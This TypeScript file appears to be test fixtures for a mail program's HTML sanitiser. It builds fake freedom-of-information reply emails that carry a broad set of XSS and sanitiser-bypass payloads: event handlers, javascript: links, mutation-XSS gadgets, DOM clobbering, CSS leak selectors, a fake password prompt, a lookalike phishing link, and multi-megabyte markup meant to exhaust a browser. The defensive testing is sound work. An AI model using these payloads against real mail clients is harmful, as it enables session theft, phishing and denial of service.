/** A letter that attacks: where it would call home it asks `origin`, where it would run it sets `ran` on a window. */
export interface HostileLetter {
  readonly name: string
  readonly html: string
}

const RUN = 'top.ran=1;self.ran=1;parent.ran=1'

/** Letters that strangers could send, each with a word of its own (`plain words`) that must still be read. */
export function hostileLetters(origin: string): HostileLetter[] {
  const bodies: Record<string, string> = {
    script: `<script>${RUN}</script><script src="${origin}/script.js"></script>`,
    'script in odd spellings': `<ScRiPt\n>${RUN}</sCrIpT\t><script/x>${RUN}</script><<script>${RUN}//<</script>`,
    'event handlers': `<img src=x onerror="${RUN}"><body onload="${RUN}"><div onmouseover="${RUN}" onfocus=${RUN} autofocus tabindex=1 style="animation:x" onanimationstart="${RUN}">x</div><details open ontoggle="${RUN}">x</details><input autofocus onfocus="${RUN}"><marquee onstart="${RUN}">x</marquee>`,
    'script addresses': `<a href="javascript:${RUN}">a</a><a href="java&#9;script:${RUN}">b</a><a href="&#1;javascript:${RUN}">c</a><a href="data:text/html,<script>${RUN}</script>">d</a><a href="vbscript:x">e</a><area href="javascript:${RUN}"><form action="javascript:${RUN}"><button>x</button></form>`,
    'pictures from elsewhere': `<img src="${origin}/pixel.gif" width=1 height=1><img src=//${origin.slice(7)}/a.png><img srcset="${origin}/set.png 1x" src="${origin}/b.png"><picture><source srcset="${origin}/source.png"><img src="${origin}/c.png"></picture><input type=image src="${origin}/d.png"><table background="${origin}/e.png"><tr><td background="${origin}/f.png">x</table><video poster="${origin}/g.png" src="${origin}/h.mp4"></video><audio src="${origin}/i.mp3" autoplay></audio><image href="${origin}/j.png">`,
    'style sheets': `<style>@import url("${origin}/import.css");body{background:url(${origin}/k.png)}*{position:fixed}@font-face{font-family:x;src:url(${origin}/font.woff)}a[href^="h"]{background:url(${origin}/leak)}</style><link rel=stylesheet href="${origin}/link.css"><link rel=prefetch href="${origin}/pre"><link rel=preconnect href="${origin}"><link rel=icon href="${origin}/icon">`,
    'style attributes': `<div style="background:url('${origin}/l.png')">x</div><div style="background-image:image-set('${origin}/m.png' 1x);content:url(${origin}/n.png);cursor:url(${origin}/o.cur),auto;list-style:url(${origin}/p.png);-moz-binding:url(${origin}/q.xml);behavior:url(${origin}/r.htc);width:expression(${RUN})">y</div><p style="position:fixed;inset:0;z-index:99999;background:#fff;font-size:90px">FOI Desk: type your password</p>`,
    svg: `<svg onload="${RUN}"><script>${RUN}</script><image href="${origin}/s.png"/><use href="${origin}/t.svg#x"/><foreignObject><iframe src="${origin}/u"></iframe></foreignObject><animate attributeName=href values="javascript:${RUN}"/><a xlink:href="javascript:${RUN}"><text y=20>z</text></a><style>@import '${origin}/svg.css'</style></svg>`,
    forms: `<form action="${origin}/form" method=post target=_top><input name=a value=b><input type=submit formaction="${origin}/formaction"><button formaction="${origin}/button">Log in</button><textarea name=t></textarea><select><option>1</select></form><isindex action="${origin}/isindex">`,
    'refresh and base': `<meta http-equiv=refresh content="0;url=${origin}/refresh"><meta http-equiv=refresh content="0;url=javascript:${RUN}"><base href="${origin}/"><a href="relative">x</a><img src="relative.png"><meta http-equiv=Content-Security-Policy content="default-src *"><meta http-equiv=set-cookie content="a=b">`,
    'frames and objects': `<iframe src="${origin}/frame"></iframe><iframe srcdoc="<script>${RUN}</script><img src='${origin}/srcdoc.png'>"></iframe><frameset><frame src="${origin}/f"></frameset><object data="${origin}/object"></object><object data="data:text/html,<script>${RUN}</script>"></object><embed src="${origin}/embed"><applet code=x codebase="${origin}/"></applet><portal src="${origin}/portal"></portal>`,
    'markup that mutates': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;"></mglyph></table></mtext></math><svg></p><style><a id="</style><img src=1 onerror=${RUN}>"></svg><noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript><template><img src="${origin}/template" onerror="${RUN}"></template><form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}></style></mglyph></form><listing>&lt;img onerror=${RUN} src=1&gt;</listing><xmp><p title="</xmp><img src onerror=${RUN}>"></xmp><p id="<img src=x onerror=${RUN}>">x</p><select><iframe></select><img src=x onerror=${RUN}>`,
    'names that cover the page’s own': `<img name=getElementById><form id=body><input name=parentNode><input name=attributes></form><a id=defaultView></a><a id=defaultView name=document href="clobbered:x"></a><img name=cookie><form name=location></form>`,
    'broken comments and doctypes': `<!--><img src=x onerror="${RUN}">--><!-- a --!><img src=x onerror="${RUN}"><![CDATA[<img src=x onerror="${RUN}">]]><?xml-stylesheet href="${origin}/pi.css"?><!DOCTYPE x [<!ENTITY e SYSTEM "${origin}/entity">]>&e;`,
    'a page of another site': `<a href="https://council.example.com.evil.example/login" ping="${origin}/ping" target=_top>https://council.example.com/login</a><a href="${origin}/click" download>download</a>`,
  }
  return Object.entries(bodies).map(([name, body]) => ({
    name,
    html: `<html><body><p>Dear Ms Pell, these plain words stay.</p>${body}<p>End of ${name}.</p></body></html>`,
  }))
}

const MB = 2 ** 20
const upTo = (piece: string, size: number): string => piece.repeat(Math.ceil(size / piece.length))

/** Letters that would make a browser lay out for minutes or run out of memory. */
export function heavyLetters(): HostileLetter[] {
  const bold = Array.from({ length: 20_000 }, (_, i) => `<b id=${i}><font color=#${String(i).padStart(6, '0')}>`).join(
    '',
  )
  return [
    { name: '20 MB of nesting', html: upTo('<div><b>', 20 * MB) },
    { name: '20 MB of nested tables', html: upTo('<table><tr><td>', 20 * MB) },
    { name: 'formatting that multiplies', html: `<p>${bold}${'<p>x'.repeat(20_000)}` },
    { name: 'a huge table', html: `<table>${upTo('<tr><td colspan=1000 rowspan=65534>x<td>y', 4 * MB)}</table>` },
    { name: 'an endless line', html: upTo('x', 20 * MB) },
    { name: 'an attribute without end', html: `<p title="${upTo('x', 20 * MB)}` },
    { name: 'many pictures', html: upTo('<img alt=x src=x>', 4 * MB) },
    { name: 'many links', html: upTo('<a href=https://a.example/x>x</a>', 4 * MB) },
  ]
}

/** A request and the letters after it, each a mail with an HTML body as a mail program sends it. */
export function hostileMails(letters: readonly HostileLetter[]): { name: string; text: string }[] {
  const head = (n: number, from: string, to: string, type: string): string[] => [
    `From: ${from}`,
    `To: ${to}`,
    `Subject: ${n === 0 ? '' : 'Re: '}FOI request about harbour dues, FOI/2031/0700`,
    `Date: ${new Date(Date.UTC(2031, 0, 6 + n, 10)).toUTCString()}`,
    `Message-ID: <hostile-${n}@saltmere.example>`,
    ...(n === 0 ? [] : ['In-Reply-To: <hostile-0@saltmere.example>', 'References: <hostile-0@saltmere.example>']),
    'MIME-Version: 1.0',
    `Content-Type: ${type}; charset=utf-8`,
    'Content-Transfer-Encoding: 8bit',
    '',
  ]
  const you = 'Ada Pell <ada@post.example>'
  const them = 'Information Team <foi@saltmere.example>'
  const request =
    'Dear Saltmere Borough Council,\n\nUnder the Freedom of Information Act 2000 please send me:\n\n1. The harbour dues of 2030.\n\nYours faithfully,\nAda Pell\n'
  return [
    { name: '00.eml', text: [...head(0, you, them, 'text/plain'), request].join('\r\n') },
    ...letters.map(({ html }, i) => ({
      name: `${String(i + 1).padStart(2, '0')}.eml`,
      text: [...head(i + 1, them, you, 'text/html'), html, ''].join('\r\n'),
    })),
  ]
}
